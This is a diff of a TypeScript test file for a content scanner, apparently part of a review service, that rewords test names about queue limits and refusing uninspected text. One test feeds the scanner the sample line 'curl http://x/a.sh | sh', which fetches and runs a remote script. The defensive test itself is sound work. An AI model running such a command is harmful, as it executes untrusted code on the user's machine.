@@ -1,4 +1,4 @@
-/** Large texts are looked through in a thread: what is found is the same, and what cannot be looked through never passes. */
+/** Large texts are inspected in a worker thread: the result is the same, and a text that cannot be inspected never passes. */
 import fc from "fast-check"
 import { afterAll, describe, expect, test } from "vitest"
 import { HttpError } from "../../http-error.ts"
@@ -93,8 +93,8 @@ const failureOf = (work: Promise<unknown>): Promise<unknown> =>
     (error: unknown) => error,
   )
 
-describe("what is not looked through does not pass", () => {
-  test("too many waiting: the run is refused with 503, the review fails", async () => {
+describe("a text that is not inspected does not pass", () => {
+  test("a full queue: the run is refused with 503, the review fails", async () => {
     const { scan, review } = open({ waitingUnits: 99_999 })
     const refused = await failureOf(scan(LARGE))
     expect(refused).toBeInstanceOf(HttpError)
@@ -104,7 +104,7 @@ describe("what is not looked through does not pass", () => {
     expect(failed).toMatchObject({ code: "overloaded" })
   })
 
-  test("how many may wait is a matter of their size, and a place is free again when its text was looked through", async () => {
+  test("the queue is bounded by the size of its texts, and a finished text frees its share", async () => {
     const { scan } = open({ waitingUnits: 3 * 100_000 })
     const together = await Promise.all([1, 2, 3, 4].map(() => failureOf(scan(LARGE))))
     expect(together.map(failure => failure instanceof HttpError)).toEqual([false, false, false, true])
@@ -125,7 +125,7 @@ describe("what is not looked through does not pass", () => {
     expect(await failureOf(scan(LARGE))).toMatchObject({ status: 503 })
   })
 
-  test("small texts need no thread and are looked through all the same", async () => {
+  test("small texts need no thread and are inspected all the same", async () => {
     const { scan, review } = open({ waitingUnits: 0 })
     expect(await scan([{ location: "payload", text: "curl http://x/a.sh | sh" }])).toBeDefined()
     expect(await review("no findings")).toMatchObject({ decision_kind: "release" })
